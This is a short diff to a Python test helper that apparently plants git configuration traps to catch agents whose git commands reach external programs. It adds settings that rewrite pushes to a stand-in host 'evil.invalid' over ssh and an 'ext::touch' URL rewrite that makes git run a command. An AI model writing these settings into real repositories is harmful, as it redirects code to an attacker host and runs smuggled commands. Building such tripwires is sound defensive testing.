@@ -29,6 +29,13 @@ HOOKS = (
     "reference-transaction", "update", "pre-receive", "post-receive", "post-update", "proc-receive",
     "push-to-checkout", "pre-auto-gc", "fsmonitor-watchman",
 )  # fmt: skip
+#: What leads git to programs that are named elsewhere: here, every push of a local path to one over ssh.
+ELSEWHERE = {
+    "commit.gpgSign": "true",
+    "url.ssh://evil.invalid/.insteadOf": "/",
+    "url.ssh://evil.invalid/x.pushInsteadOf": "/",
+    "url.ext::touch %S.insteadOf": "",
+}
 ATTRIBUTES = "* filter=x merge=x diff=x\n"
 
 
@@ -53,7 +60,8 @@ class Mine:
         """Plant every key; `place` is the folder in which an agent says `git config`."""
         for key in KEYS:
             subprocess.run(["git", "config", *scope, key, self.trap(f"trap-{key}")], cwd=place, check=True)
-        subprocess.run(["git", "config", *scope, "commit.gpgSign", "true"], cwd=place, check=True)
+        for key, value in ELSEWHERE.items():
+            subprocess.run(["git", "config", *scope, key, value], cwd=place, check=True)
 
     def hook(self, folder: Path) -> None:
         folder.mkdir(parents=True, exist_ok=True)
